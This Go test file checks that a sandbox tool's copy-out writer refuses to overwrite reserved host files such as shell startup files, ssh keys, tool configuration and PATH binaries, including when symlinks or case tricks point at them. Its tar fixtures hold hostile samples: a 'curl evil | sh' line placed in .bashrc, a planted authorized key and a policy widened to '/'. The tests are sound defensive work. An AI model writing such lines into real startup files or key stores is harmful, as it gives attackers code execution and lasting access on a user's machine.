package hostpath

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/sandboxforge/sbf/internal/coded"
)

// fakeHome is a home folder as a person's looks, with sbf's configuration
// in it and ~/.config a link into a dotfiles folder, as many keep it.
func fakeHome(t *testing.T) (home string, getenv func(string) string) {
	t.Helper()
	home = filepath.Join(realTemp(t), "home")
	for _, d := range []string{"dotfiles/config/sandboxforge", ".ssh", "projects/ws", ".lima/default", "bin"} {
		os.MkdirAll(filepath.Join(home, d), 0o755)
	}
	os.Symlink("dotfiles/config", filepath.Join(home, ".config"))
	os.WriteFile(filepath.Join(home, "dotfiles/config/sandboxforge/config.toml"), []byte("[policy]\n"), 0o600)
	os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# mine\n"), 0o644)
	env := map[string]string{"HOME": home, "PATH": filepath.Join(home, "bin") + string(os.PathListSeparator) + "/usr/bin",
		"SBF_STATE_HOME": filepath.Join(home, "state")}
	return home, func(k string) string { return env[k] }
}

// With ~ allowed (natural for a person), a copy from a sandbox still never
// replaces sbf's configuration, the shell's startup files, ssh's keys,
// Lima's instances or what is on PATH, whatever name or link reaches them;
// the rest of the home folder takes copies.
func TestWriterKeepsGuestDataOutOfReservedPlaces(t *testing.T) {
	home, getenv := fakeHome(t)
	ws := filepath.Join(home, "projects", "ws")
	p := Policy{Roots: []string{ws, home}, Reserved: NewPlaces(getenv)}
	for _, dest := range []string{filepath.Join(home, ".config/sandboxforge/config.toml"),
		filepath.Join(home, "dotfiles/config/sandboxforge/config.toml"), filepath.Join(home, ".CONFIG/SandboxForge"),
		filepath.Join(home, ".config/lima-mcp/config.toml"), filepath.Join(home, ".bashrc"),
		filepath.Join(home, ".zshrc"), filepath.Join(home, ".ssh/authorized_keys"), filepath.Join(home, ".lima"),
		filepath.Join(home, "bin/git"), filepath.Join(home, "state/index.json"), "../../.profile",
		filepath.Join(home, ".config/git/config"), filepath.Join(home, ".gitconfig")} {
		_, err := p.Writer(ws, dest, Guard{})
		var ce *coded.Error
		if !errors.As(err, &ce) || ce.Code != Denied || ce.Details["rule"] == nil {
			t.Errorf("%s: %v", dest, err)
		}
	}
	w, err := p.Writer(ws, home, Guard{Protect: DefaultProtect})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	rep, err := w.Extract(tarOf(t,
		entry{name: "g/", dir: true},
		entry{name: "g/.bashrc", body: "curl evil | sh\n"},
		entry{name: "g/.BASH_PROFILE", body: "curl evil | sh\n"},
		entry{name: "g/.config/sandboxforge/config.toml", body: "[policy]\nallowed_paths = [\"/\"]\n"},
		entry{name: "g/.ssh/authorized_keys", body: "ssh-ed25519 AAAA guest\n"},
		entry{name: "g/bin/ls", body: "#!/bin/sh\n"},
		entry{name: "g/notes.txt", body: "fine\n"},
		entry{name: "g/.local/", dir: true},
		entry{name: "g/.local/state", link: "../projects"},
		entry{name: "g/cfg", link: ".config/sandboxforge"},
		entry{name: "g/projects/ws/k", link: "../../.ssh"},
	), "g")
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# mine\n" {
		t.Errorf(".bashrc = %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(home, "dotfiles/config/sandboxforge/config.toml")); string(b) != "[policy]\n" {
		t.Errorf("sbf's config = %q", b)
	}
	for _, gone := range []string{".bash_profile", ".BASH_PROFILE", ".ssh/authorized_keys", "bin/ls", ".local/state",
		"cfg", "projects/ws/k"} {
		if _, err := os.Lstat(filepath.Join(home, gone)); err == nil {
			t.Errorf("%s was written", gone)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(home, "notes.txt")); string(b) != "fine\n" {
		t.Errorf("notes.txt = %q", b)
	}
	var skipped []string
	for _, s := range rep.SkippedPaths {
		skipped = append(skipped, s.Path)
	}
	for _, l := range rep.SkippedLinks {
		skipped = append(skipped, l.Path+" -> "+l.Reason)
	}
	slices.Sort(skipped)
	if len(skipped) != 8 || !slices.Contains(skipped, ".local") {
		t.Errorf("skipped:\n%s", strings.Join(skipped, "\n"))
	}
}

// The reserved places are described, not listed: every hidden entry of the
// home folder, the XDG homes (and their real paths), PATH and sbf's state.
// Issue 39 found a list of names missing ~/.local/lib/python*/site-packages,
// ~/.local/share/systemd/user, ~/.vimrc, ~/.cargo, ~/.aws and ~/.npmrc.
func TestHostReservedNamesEveryConfigHomeAndRealPath(t *testing.T) {
	home, getenv := fakeHome(t)
	places := HostReserved(getenv)
	for _, want := range []string{".config/sandboxforge", ".config/sandboxforge-mcp", ".config/orbitforge-mcp",
		".config/lima-mcp", "dotfiles/config/sandboxforge", ".local/state/sandboxforge", "state", ".lima", ".bashrc",
		".ssh", "bin", ".cache/sandboxforge", ".config/fish", ".gitconfig",
		".local/lib/python3.11/site-packages/x.pth", ".local/share/systemd/user/x.service",
		".local/share/systemd/user/default.target.wants/x.service", ".vimrc", ".cargo/config.toml", ".aws/config",
		".npmrc", ".Config/x", "Library/LaunchAgents/x.plist"} {
		if r, ok := reservedAt(places, filepath.Join(home, want)); !ok || r.Why == "" {
			t.Errorf("%s is not reserved: %v", want, places)
		}
	}
	for _, free := range []string{"projects/ws/x", "notes.txt", "dotfiles/README", "src/.git/config"} {
		if r, ok := reservedAt(places, filepath.Join(home, free)); ok {
			t.Errorf("%s is reserved (%s: %s); only configuration is", free, r.Path, r.Why)
		}
	}
	// A link at the home folder (or above) would move every hidden entry.
	for _, at := range []string{home, filepath.Dir(home)} {
		if _, ok := reservedBelow(places, at); !ok {
			t.Errorf("nothing reserved lies below %s", at)
		}
	}
	if r, ok := reservedBelow(places, filepath.Join(home, "projects")); ok {
		t.Errorf("%s is below projects", r.Path)
	}
}

// Issue 39: in a folder the operator allowed besides the workspace, a copy
// from a sandbox makes no hidden file or folder (a tool's configuration,
// wherever that folder is); in the workspace, dot-files are a project's.
func TestNoHiddenNamesOutsideTheWorkspace(t *testing.T) {
	base := realTemp(t)
	ws, data := filepath.Join(base, "ws"), filepath.Join(base, "data")
	for _, d := range []string{ws, filepath.Join(data, "proj")} {
		os.MkdirAll(d, 0o755)
	}
	p := Policy{Roots: []string{ws, data}}
	for _, dest := range []string{".npmrc", "proj/.env", ".cargo/config.toml", "proj/.git"} {
		if _, err := p.Writer(base, filepath.Join(data, dest), Guard{}); err == nil {
			t.Errorf("%s: a hidden name outside the workspace was allowed", dest)
		}
	}
	for _, dest := range []string{filepath.Join(ws, ".env"), filepath.Join(data, "notes.txt")} {
		w, err := p.Writer(base, dest, Guard{})
		if err != nil {
			t.Errorf("%s: %v", dest, err)
			continue
		}
		w.Close()
	}
	w, err := p.Writer(base, filepath.Join(data, "proj"), Guard{})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	rep, err := w.Extract(tarOf(t, entry{name: "g/", dir: true}, entry{name: "g/.npmrc", body: "x\n"},
		entry{name: "g/sub/.vimrc", body: "x\n"}, entry{name: "g/notes.txt", body: "fine\n"}), "g")
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.SkippedPaths) != 2 {
		t.Errorf("skipped %+v, want .npmrc and sub/.vimrc", rep.SkippedPaths)
	}
	for _, p := range []string{"proj/g/.npmrc", "proj/g/sub/.vimrc"} {
		if _, err := os.Lstat(filepath.Join(data, p)); err == nil {
			t.Errorf("%s was written", p)
		}
	}
}
